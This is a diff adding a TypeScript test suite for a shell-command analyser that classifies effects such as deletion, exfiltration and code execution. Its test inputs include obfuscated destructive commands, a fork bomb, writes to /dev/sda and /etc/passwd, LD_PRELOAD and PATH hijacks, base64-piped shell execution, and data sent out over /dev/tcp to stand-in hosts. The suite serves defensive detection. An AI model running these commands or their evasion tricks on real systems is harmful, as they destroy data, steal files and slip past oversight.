@@ -1,0 +1,296 @@
+import type { Effect } from '@countersign/kernel';
+import { describe, expect, it } from 'vitest';
+import type { Program } from '../programs/program.ts';
+import { NotHere } from '../reader.ts';
+import { contextOfLine, effectsOfLine } from './testing.ts';
+import { readShell } from './read.ts';
+
+/** Small tables of names that no shipped table has: what is tested here is the shell. */
+const PROGRAMS: readonly Program[] = [
+  { names: ['wreck'], options: '-r', does: [{ kind: 'delete', on: '*', deep: true }] },
+  { names: ['show'], does: [{ kind: 'read', on: '*' }] },
+  { names: ['send'], does: [{ kind: 'network', on: '0', type: 'host' }] },
+  {
+    names: ['wrap'],
+    syntax: 'posix',
+    options: '-u=',
+    does: [{ kind: 'identity_change', type: 'user', on: '-u' }],
+    runs: [{ as: 'argv', from: '*' }],
+  },
+  { names: ['each'], syntax: 'posix', options: '-I=', runs: [{ as: 'argv', from: '*', more: true }] },
+  { names: ['vars'], syntax: 'posix', runs: [{ as: 'argv', from: '*', assignments: true }] },
+  {
+    names: ['mysh'],
+    syntax: 'posix',
+    options: '-c',
+    runs: [
+      { as: 'shell', from: '0', when: '-c' },
+      { as: 'shell', stdin: true, when: '!-c #=0' },
+    ],
+  },
+  { names: ['mypy'], syntax: 'posix', options: '-c=', runs: [{ as: { kind: 'script', dialect: 'python' }, from: '-c' }] },
+  { names: ['at-host'], syntax: 'posix', runs: [{ as: 'shell', from: '1..', at: { type: 'host', on: '0' } }] },
+];
+
+const cx = contextOfLine({ catalogue: { functions: {}, tools: [], programs: PROGRAMS } });
+
+function told(line: string): string[] {
+  const { effects } = readShell({ kind: 'shell', text: line }, contextOf());
+  return effects
+    .filter(({ kind }) => kind !== 'none' && kind !== 'session')
+    .map(({ kind, scope, targets }) => `${kind} ${scope}${targets.map(({ name }) => ` ${name}`).join('')}`);
+}
+
+function contextOf() {
+  const own = {
+    ...cx,
+    embedded: (inner: Parameters<typeof cx.embedded>[0]) =>
+      inner.kind === 'shell' ? readShell(inner, { ...own, depth: own.depth + 1 }) : cx.embedded(inner),
+  };
+  return own;
+}
+
+function first(line: string): Effect | undefined {
+  return readShell({ kind: 'shell', text: line }, contextOf()).effects.find(({ kind }) => kind !== 'none' && kind !== 'session');
+}
+
+describe('words', () => {
+  it.each([
+    'wreck /etc',
+    '\\wreck /etc',
+    'wr"ec"k /etc',
+    "'wreck' '/etc'",
+    "$'\\x77reck' $'/e\\164c'",
+    'wreck \\\n  /etc',
+    'wreck /tmp/../etc/',
+    '{wreck,/etc}',
+    'wreck /{etc,tmp/x}/',
+    'X=wreck; $X /etc',
+    'X="wreck /etc"; $X',
+    'X=/e; X+=tc; wreck $X',
+    'A=(wreck /etc); "${A[@]}"',
+    '$(echo wreck) /etc',
+    'wreck "$(printf %s /etc)"',
+    'f() { wreck "$1"; }; f /etc',
+    'f() { wreck "$@"; }; f /tmp/a /etc',
+    'g() { wreck "$x"; }; f() { local x=/etc; g; }; f',
+    'set -- /etc; wreck $1',
+    'for d in /tmp/a /etc; do wreck $d; done',
+    'cd /; wreck etc',
+    'cd /tmp && cd ../etc && wreck .',
+    '/usr/bin/wreck /etc',
+    'X=/etc; f() { local X=/tmp/a; }; f; wreck $X',
+    'alias w="wreck /etc"; w',
+  ])('%s', (line) => {
+    expect(told(line).find((one) => one.startsWith('delete unbounded'))).toBeDefined();
+  });
+
+  it.each([
+    ['wreck $X', 'not set in the text'],
+    ['X=/tmp/a; read X; wreck $X', 'read from outside'],
+    ['X=/tmp/a; false && X=/; wreck $X', 'perhaps set again'],
+    ['X=/tmp/a; if y; then X=/; fi; wreck $X', 'set in a branch'],
+    ['X=/tmp/a; for i in 1 2 3; do wreck $X; X=/; done', 'set by the round before'],
+    ['X=/tmp/a; while show x; do wreck $X; X=/etc/$X; done', 'changed by the round before'],
+    ['X=/tmp/a; . ./env; wreck $X', 'a sourced file may set it'],
+    ['HOME=/x wreck $HOME/y/z', 'not the home that it usually is'],
+    ['X=/tmp/a; printf -v X %s /; wreck $X', 'printed into'],
+    ['X=/tmp/a; mysh -c "wreck \\$X/"', 'not exported'],
+  ])('%s is not known: %s', (line) => {
+    expect(told(line)).toContainEqual(expect.stringMatching(/^(?:delete un|opaque)/));
+  });
+
+  it.each([
+    '$X a',
+    '`show x` a',
+    '"$(show x)" a',
+    '/usr/bin/wr?ck /tmp/a',
+    '${X:-wreck} /tmp/a',
+    'IFS=_; X=wreck_/etc; $X',
+    '$((1)) a',
+  ])('%s has a command that is only known at run time', (line) => {
+    expect(told(line)).toContainEqual(expect.stringMatching(/^opaque/));
+  });
+
+  it('reads programs by path only from the system', () => {
+    expect(told('./wreck /tmp/a')).toEqual(['code_execution unknown ./wreck', 'opaque unknown']);
+    expect(told('/bin/wreck /tmp/a')).toEqual(['delete bounded /tmp/a']);
+    expect(told('nosuch --help')).toEqual(['opaque unknown']);
+  });
+});
+
+describe('commands inside commands', () => {
+  const forms = (command: string): string[] => [
+    `(${command})`,
+    `{ ${command}; }`,
+    `if ${command}; then :; fi`,
+    `while ${command}; do :; done`,
+    `case x in x) ${command};; esac`,
+    `! ${command}`,
+    `time ${command}`,
+    `coproc ${command}`,
+    `${command} &`,
+    `show x | ${command}`,
+    `show x || ${command}`,
+    `show "$(${command})"`,
+    `show \`${command}\``,
+    `show <(${command})`,
+    `show > >(${command})`,
+    `: \${X:=$(${command})}`,
+    `echo $(( $(${command}) ))`,
+    `[[ -n $(${command}) ]]`,
+    `A[$(${command})]=1`,
+    `show <<E\n$(${command})\nE`,
+    `show <<< "$(${command})"`,
+    `export X="$(${command})"`,
+    `X=$(${command}) show y`,
+    `f() { ${command}; }; f`,
+    `eval '${command}'`,
+    `eval ${command}`,
+    `trap '${command}' EXIT`,
+    `wrap -u root ${command}`,
+    `vars A=1 ${command}`,
+    `mysh -c '${command}'`,
+    `mysh <<'E'\n${command}\nE`,
+    `mysh <<< '${command}'`,
+    `echo '${command}' | mysh`,
+    `printf '%s' '${command}' | wrap mysh`,
+    `mysh -c "mysh -c '${command}'"`,
+    `at-host web '${command}'`,
+    `echo ${btoa(command)} | base64 -d | mysh`,
+  ];
+  it.each(forms('wreck /etc'))('%s', (line) => {
+    expect(told(line).find((one) => one.startsWith('delete unbounded'))).toBeDefined();
+  });
+  it.each(forms('wreck a').filter((line) => !line.includes('${X:=')))('%s is no worse than it is', (line) => {
+    expect(told(line).find((one) => one.startsWith('delete unbounded'))).toBeUndefined();
+  });
+
+  it('does not take text for commands', () => {
+    for (const line of [
+      "echo 'wreck /etc'",
+      'show <<E\nwreck /etc\nE',
+      'show x # wreck /etc',
+      'f() { wreck /etc; }',
+      'echo "$((wreck / etc))"',
+    ])
+      expect(told(line).filter((one) => one.startsWith('delete'))).toEqual([]);
+  });
+
+  it('does not trust a function that may not have been defined', () => {
+    expect(told('false && wreck() { :; }; wreck /etc')).toContain('delete unbounded /etc');
+    expect(told('wreck() { :; }; wrap wreck /etc')).toContain('delete unbounded /etc');
+    expect(told('wreck() { :; }; wreck /etc')).toEqual([]);
+  });
+
+  it('appends what is only known at run time', () => {
+    expect(told('each wreck')).toEqual(['delete unknown $input']);
+    expect(told('echo / | each wreck')).toEqual(['delete unbounded /']);
+    expect(told('echo / | each -I% wreck %')).toEqual(['delete unbounded /']);
+  });
+
+  it('knows code that comes from elsewhere', () => {
+    expect(told('send host | mysh')).toEqual(['network one host', 'code_execution unknown', 'opaque unknown']);
+    expect(told('mysh -c "$(send host)"').some((one) => one.startsWith('code_execution'))).toBe(true);
+    expect(told('mysh < script.sh').some((one) => one.startsWith('code_execution'))).toBe(true);
+    expect(told("mypy -c 'print(1)'")).toEqual(['opaque unknown']);
+    expect(told('. ./lib.sh').some((one) => one.startsWith('code_execution'))).toBe(true);
+  });
+
+  it('sees a fork bomb and other recursion', () => {
+    expect(told(':(){ :|:& };:')).toContain('process_control unbounded');
+    expect(told('f() { wreck "$1"; f /etc; }; f /tmp/a')).toContain('delete unbounded /etc');
+  });
+});
+
+describe('redirections and data', () => {
+  it.each([
+    ['show a > b', ['write one b', 'read one a']],
+    ['show a >> b', ['write one b', 'read one a']],
+    ['show a > /dev/null 2>&1', ['read one a']],
+    ['show < a', ['read one a']],
+    ['show a &> ~/.bashrc', ['write one ~/.bashrc', 'persistence one ~/.bashrc', 'read one a']],
+    ['> /dev/sda', ['delete unbounded /dev/sda']],
+    ['cd /etc; > passwd', ['write one passwd', 'privilege_change one passwd']],
+    ['{ show a; show b; } > c', ['write one c', 'read one a', 'read one b']],
+    ['exec 3<>/dev/tcp/h.example/80', ['network one /dev/tcp/h.example/80']],
+  ])('%s', (line, expected) => {
+    expect(told(line)).toEqual(expected);
+  });
+
+  it.each(['show a > /dev/tcp/h/80', 'send "h/$(show a)"', 'X=$(show a); send "h/$X"', 'while read l; do send $l; done < a'])(
+    '%s takes data out',
+    (line) => {
+      expect(told(line).some((one) => one.startsWith('export'))).toBe(true);
+    },
+  );
+
+  it('does not take an echo for data', () => {
+    expect(told('echo hi > /dev/tcp/h/80').some((one) => one.startsWith('export'))).toBe(false);
+    expect(told('send h')).toEqual(['network one h']);
+  });
+});
+
+describe('variables of the environment', () => {
+  it.each([
+    'PATH=/tmp:$PATH show a',
+    'export PATH=.:$PATH',
+    'LD_PRELOAD=./x.so show a',
+    'vars LD_PRELOAD=x show a',
+    'BASH_ENV=x mysh -c "show a"',
+    'PROMPT_COMMAND=$X',
+    'PAGER="$X" show a',
+    'GIT_SSH_COMMAND="wreck /etc" show a',
+  ])('%s changes what runs', (line) => {
+    expect(told(line).some((one) => /^(?:code_execution|delete unbounded|opaque)/.test(one))).toBe(true);
+  });
+  it.each([
+    'PATH=$PATH:/opt/x/bin show a',
+    'PATH=/usr/bin:/bin show a',
+    'PAGER=cat show a',
+    'NODE_OPTIONS=--max-old-space-size=4096 show a',
+    'IFS= read -r x',
+    'FOO=1 show a',
+  ])('%s does not', (line) => {
+    expect(told(line).filter((one) => !one.startsWith('read'))).toEqual([]);
+  });
+});
+
+describe('where it happened', () => {
+  it('points at the words, through wrappers and quotes', () => {
+    const line = 'wrap -u root mysh -c "wreck /etc"';
+    const effect = first('mysh -c "wreck /etc"');
+    expect(effect).toMatchObject({ kind: 'delete', via: 'mysh', span: { start: 15, end: 19 } });
+    const deletions = readShell({ kind: 'shell', text: line }, contextOf()).effects.filter(({ kind }) => kind === 'delete');
+    expect(deletions.map(({ via }) => via)).toEqual(['wrap › mysh']);
+  });
+  it('names where it runs', () => {
+    expect(first("at-host web1 'wreck /etc'")?.targets).toEqual([
+      { type: 'file', name: '/etc' },
+      { type: 'host', name: 'web1' },
+    ]);
+  });
+  it('gives the same text for commands that differ in their values', () => {
+    const normalised = (text: string): string => readShell({ kind: 'shell', text }, contextOf()).normalised;
+    expect(normalised('wreck -r a | show "b c"')).toBe('wreck -r ? | show ?');
+  });
+});
+
+describe('what cannot be read', () => {
+  it.each(["wreck /tmp/a 'x", 'if show a', 'show a )', 'show <<E\nx', ''])('%s', (text) => {
+    expect(readShell({ kind: 'shell', text }, contextOf()).complete).toBe(false);
+  });
+  it('sends long and tangled texts to the worker', () => {
+    const here = { ...contextOf(), place: 'here' as const };
+    for (const text of [
+      `echo ${'a'.repeat(9_000)}`,
+      'echo '.concat('$(echo '.repeat(33), ')'.repeat(33)),
+      'show <<E\nE\n'.repeat(17),
+    ])
+      expect(() => readShell({ kind: 'shell', text }, here)).toThrow(NotHere);
+  });
+  it('stops at functions that multiply', () => {
+    const text = `f0() { show a; }; ${Array.from({ length: 20 }, (_, at) => `f${at + 1}() { f${at}; f${at}; };`).join(' ')} f20`;
+    expect(effectsOfLine(text).some(({ kind, why }) => kind === 'opaque' && why.startsWith('too many commands'))).toBe(true);
+  });
+});
